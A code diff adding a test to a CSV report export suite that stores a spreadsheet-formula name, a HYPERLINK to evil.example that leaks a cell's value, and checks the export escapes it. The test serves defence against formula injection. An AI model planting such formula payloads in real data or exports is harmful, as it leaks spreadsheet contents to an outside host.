@@ -218,6 +218,13 @@ describe.each(testEngines())('360 reports on %s', (engine) => {
       .where('app_name', '=', 'profile')
       .executeTakeFirstOrThrow();
     const today = new Date().toISOString().slice(0, 10);
+    // A person named like a formula: the spreadsheet must show the name, not run it.
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
+    await t.database.db
+      .updateTable('user_account')
+      .set({ first_name: formula, last_name: '@SUM(1)' })
+      .where('user_id', '=', pat.userId)
+      .execute();
     const res = await call(
       t,
       'GET',
@@ -230,6 +237,7 @@ describe.each(testEngines())('360 reports on %s', (engine) => {
     expect(body.split('\r\n')[0]).toMatch(
       /^"First name","Last name","Report","Released","Describers","Listening"/,
     );
+    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")","'@SUM(1)"`);
     const empty = await call(
       t,
       'GET',
